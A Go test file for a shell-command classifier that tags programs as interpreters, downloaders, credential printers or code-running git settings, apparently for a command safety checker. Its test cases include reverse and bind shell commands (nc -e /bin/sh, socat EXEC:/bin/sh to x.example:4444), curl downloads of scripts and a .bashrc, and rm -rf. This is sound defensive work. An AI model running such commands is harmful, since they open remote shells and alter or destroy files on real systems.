package programs

import (
	"strings"
	"testing"
)

func TestLookupVersionedNames(t *testing.T) {
	for name, want := range map[string]string{
		"python3.12": "python", "python3": "python", "pypy3.10": "python", "python2.7": "python",
		"nodejs": "node", "node18": "node", "php8.2": "php", "perl5.36": "perl", "ruby3.3": "ruby",
		"lua5.4": "lua", "bash": "bash", "rbash": "bash", "cmd.exe": "cmd", "powershell.exe": "powershell",
		"pwsh": "powershell", "base64": "base64", "base32": "base64", "gpg2": "gpg",
	} {
		if p := Lookup(name); p == nil || p.Name != want {
			t.Errorf("Lookup(%q) = %v, want %s", name, p, want)
		}
	}
	for _, name := range []string{"", "ls2", "pythonic", "nodemon", "gitk"} {
		if p := Lookup(name); p != nil && (p.Name == "python" || p.Name == "node" || p.Name == "git") {
			t.Errorf("Lookup(%q) = %s, want none", name, p.Name)
		}
	}
}

func TestKinds(t *testing.T) {
	for _, c := range []struct {
		name string
		k    Kind
		want bool
	}{
		{"python3.12", Interpreter, true}, {"nodejs", Interpreter, true}, {"bash", Shell, true},
		{"curl", Downloader | NetSender, true}, {"base64", Decoder, true}, {"ls", NonReader, true},
		{"cat", NonReader, false}, {"sudo", Privilege, true}, {"gh", CredPrinter, true},
	} {
		if got := Is(c.name, c.k); got != c.want {
			t.Errorf("Is(%s, %b) = %v", c.name, c.k, got)
		}
	}
	if LangOf("python3.12") != "python" || LangOf("nodejs") != "js" || LangOf("ls") != "" {
		t.Error("LangOf")
	}
}

func TestCurlOutputs(t *testing.T) {
	p := Lookup("curl")
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"-O", "https://x.example/.bashrc"}, ".bashrc"},
		{[]string{"-fsSLO", "https://x.example/i.sh"}, "i.sh"},
		{[]string{"-o", "out.sh", "https://x.example/i"}, "out.sh"},
		{[]string{"--output-dir", "d", "-O", "https://x.example/a.sh?x=1"}, "d/a.sh"},
	} {
		got := p.Outputs(c.args)
		if len(got) != 1 || got[0] != c.want {
			t.Errorf("curl %v: outputs %v, want %s", c.args, got, c.want)
		}
	}
	if got := p.Outputs([]string{"-s", "https://x.example/i"}); len(got) != 0 {
		t.Errorf("curl to stdout: %v", got)
	}
}

func TestGitCode(t *testing.T) {
	for _, k := range []string{"core.fsmonitor", "core.sshCommand", "core.pager", "sequence.editor",
		"credential.helper", "filter.lfs.smudge", "diff.x.textconv", "alias.x", "pager.log", "core.hooksPath"} {
		if !GitCodeKey(k) {
			t.Errorf("GitCodeKey(%s) = false", k)
		}
	}
	for _, k := range []string{"user.name", "user.email", "core.autocrlf", "pull.rebase", "init.defaultBranch", "remote.origin.url"} {
		if GitCodeKey(k) {
			t.Errorf("GitCodeKey(%s) = true", k)
		}
	}
	if c, ok := GitCodeArgs("rebase", []string{"-i", "--exec", "make test", "main"}); !ok || c[0] != "make test" {
		t.Errorf("rebase --exec: %v %v", c, ok)
	}
	if _, ok := GitCodeArgs("rebase", []string{"-i", "main"}); ok {
		t.Error("plain rebase runs code")
	}
}

func TestSkip(t *testing.T) {
	words := []string{"-n", "5", "--", "rm", "-rf"}
	i, flags := Skip(len(words), func(k int) (string, bool) { return words[k], true }, S("n"))
	if i != 3 || flags["n"] != "5" {
		t.Errorf("Skip = %d %v", i, flags)
	}
}

func TestAttaches(t *testing.T) {
	for _, c := range []struct {
		name string
		args []string
		want bool
	}{
		{"nc", []string{"-e", "/bin/sh", "x.example", "4444"}, true},
		{"ncat", []string{"-lvpe", "/bin/sh", "4444"}, true},
		{"netcat", []string{"--sh-exec=id", "x.example", "1"}, true},
		{"nc", []string{"-zv", "localhost", "5432"}, false},
		{"socat", []string{"TCP:x.example:4444", "EXEC:/bin/sh"}, true},
		{"socat", []string{"TCP-LISTEN:8080,fork", "TCP:localhost:3000"}, false},
	} {
		p := Lookup(c.name)
		if got := p.Attaches != nil && p.Attaches(c.args); got != c.want {
			t.Errorf("%s %v: Attaches = %v", c.name, c.args, got)
		}
	}
}

func TestCopyDest(t *testing.T) {
	for _, c := range []struct {
		name       string
		args       []string
		srcs, dest string
	}{
		{"cp", []string{"-r", "a", "b", "dir/"}, "a b", "dir/"},
		{"cp", []string{"-t", "/tmp", "a", "b"}, "a b", "/tmp"},
		{"install", []string{"-m", "755", "x", "/usr/local/bin/"}, "x", "/usr/local/bin/"},
		{"rsync", []string{"-e", "ssh -p 2", "-t", "a/", "h:b/"}, "a/", "h:b/"},
		{"mv", []string{"only"}, "only", ""},
	} {
		srcs, dest := Lookup(c.name).CopyDest(c.args)
		if strings.Join(srcs, " ") != c.srcs || dest != c.dest {
			t.Errorf("%s %v: CopyDest = %v %q", c.name, c.args, srcs, dest)
		}
	}
	if !Is("scp", Copier|Archiver) || !Is("7za", Archiver) || Is("mv", Archiver) || Is("mv", Deleter) {
		t.Error("kinds of the copiers and archivers")
	}
}

func TestFindActs(t *testing.T) {
	for _, a := range []string{"-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fls"} {
		if !FindActs(a) {
			t.Errorf("FindActs(%s) = false", a)
		}
	}
	if FindActs("-name") || FindActs("-print") || FindRuns("-delete") {
		t.Error("FindActs/FindRuns of a test or -delete")
	}
}

// A name with its own digits is its own program, not a version of another
// (killall5 signals every process; killall kills by name).
func TestOwnDigits(t *testing.T) {
	for name, want := range map[string]string{"killall5": "killall5", "killall": "pkill", "skill": "pkill",
		"sponge": "tee", "chgrp": "chown", "setfacl": "setfacl", "pip3.11": "pip", "bunx": "npx", "tofu": "terraform"} {
		if p := Lookup(name); p == nil || p.Name != want {
			t.Errorf("Lookup(%s) = %v, want %s", name, p, want)
		}
	}
	if !Lookup("export").PrintsEnv([]string{"-p"}) || Lookup("export").PrintsEnv([]string{"A=1"}) ||
		!Lookup("env").PrintsEnv([]string{"-0"}) || Lookup("env").PrintsEnv([]string{"-u", "X", "ls"}) {
		t.Error("PrintsEnv")
	}
	for name, want := range map[string]string{"podman": "docker", "nerdctl": "docker", "kubecolor": "kubectl",
		".": "source", "trap": "trap", "true": "true", "pushd": "cd", "runuser": "su", "sem": "parallel", "alias": "alias"} {
		if got := Canon(name); got != want {
			t.Errorf("Canon(%s) = %s, want %s", name, got, want)
		}
	}
	if !Is("rg", Pattern) || !Is("gojq", Pattern) || !Is("sed", Pattern) || Is("sort", Pattern) ||
		!Is("tldr", Manual) || !Is("which", NonReader|Manual) || Is("help", NonReader) {
		t.Error("Pattern / Manual")
	}
	if !Is("chattr", Permissions) || Lookup("chattr").ModeOperand || !Lookup("chgrp").ModeOperand {
		t.Error("Permissions / ModeOperand")
	}
}

func TestRepoOwner(t *testing.T) {
	for url, want := range map[string]string{
		"https://github.com/acme/app.git":         "github.com/acme",
		"git@github.com:Acme/app.git":             "github.com/acme",
		"ssh://git@github.com:22/acme/app":        "github.com/acme",
		"https://user:tok@gitlab.example.com/g/p": "gitlab.example.com/g",
		"../mirror.git":                           "",
		"/srv/git/app.git":                        "",
		"file:///srv/git/app.git":                 "",
	} {
		if got := RepoOwner(url); got != want {
			t.Errorf("RepoOwner(%q) = %q, want %q", url, got, want)
		}
	}
}
